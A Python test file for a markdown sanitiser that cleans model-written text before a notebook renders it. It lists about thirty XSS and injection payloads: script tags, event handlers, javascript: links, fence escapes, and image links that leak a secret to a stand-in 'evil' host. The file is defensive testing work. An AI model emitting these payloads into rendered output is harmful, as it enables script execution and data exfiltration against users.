"""What a model writes, before a notebook's markdown renderer gets it."""

import html
import re

import pytest

from spoonkernel.handles.markdown import harmless

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a <b\nonclick=alert(1)>b</b>",
    "<!-- --><svg/onload=alert(1)>",
    "<?php ?> </textarea><iframe src='http://evil'>",
    "![secret](http://evil/?q=secret)",
    "\\![secret](http://evil/?q=secret)",
    "![secret][1]\n\n[1]: http://evil/",
    "[click](javascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](\njavascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,x)",
    "[click](/lab/api/kernels)",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "[click][1]\n\n[1]:\njavascript:alert(1)",
    "```\n<script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "``<script>alert(1)</script>``",
    "`a``<script>`b`",
    "~~~\n```\n<script>\n~~~\n<script>\n```",
    "    <script>alert(1)</script>",
    "- ```\n  <script>alert(1)</script>\n  ```",
    "> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "```<script>\nx\n```",
    '```x"onload=alert(1)\ny\n```',
    "<a href='javascript:1'>x</a>",
    "<javascript:alert(1)>",
    "$\\text{<img src=x onerror=alert(1)>}$",
]
OURS = re.compile(r'</?(?:pre|code)>|<code class="language-[\w+#.-]*">')


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_is_left(attack):
    for text in (attack, f"text\n\n{attack}\n\ntext", f"# {attack}", f"| a |\n|---|\n| {attack} |"):
        done = OURS.sub("", harmless(text))
        assert not re.search(r"<[A-Za-z/!?]", done)
        assert "![" not in done
        assert not re.search(r"\]\((?!https?://|mailto:)", done)
        assert not re.search(r"\]:(?!\s?https?://)", done)


def test_plain_markdown_stays_as_it_is():
    text = "# Owls\n\n- *one*\n- **two**\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$a < b$ and 3 < 4 & x > y"
    assert harmless(text) == text


def test_links_to_the_web_stay():
    text = (
        "[a](https://example.org/x) [b](http://example.org 'title') [c](mailto:a@example.org) [d][1]\n\n[1]: https://d"
    )
    assert harmless(text) == text


@pytest.mark.parametrize(
    "code", ["a < b && c > d", "<div class='x'>*no*</div>", "arr[0] = f(x)[1]  # `", "a\n\n\nb", "$x$ ![y](z)"]
)
def test_fenced_code_reads_exactly_as_it_was_written(code):
    done = harmless(f"before\n```python title\n{code}\n```\nafter")
    inside = re.search(r'<pre><code class="language-python">(.*)\n</code></pre>', done, re.DOTALL)
    assert inside
    assert html.unescape(inside[1]) == code
    assert done.startswith("before\n")
    assert done.endswith("\nafter")


def test_code_in_a_line_reads_exactly_as_it_was_written():
    done = harmless("Use `List<int>` or ``a`b<c>`` or `*x*`.")
    assert [html.unescape(code) for code in re.findall("<code>(.*?)</code>", done)] == ["List<int>", "a`b<c>", "*x*"]


def test_a_fence_that_is_still_open_is_code_already():
    assert html.unescape(harmless("```c\n#include <stdio.h>")) == (
        '\n\n<pre><code class="language-c">#include <stdio.h>\n</code></pre>\n\n'
    )
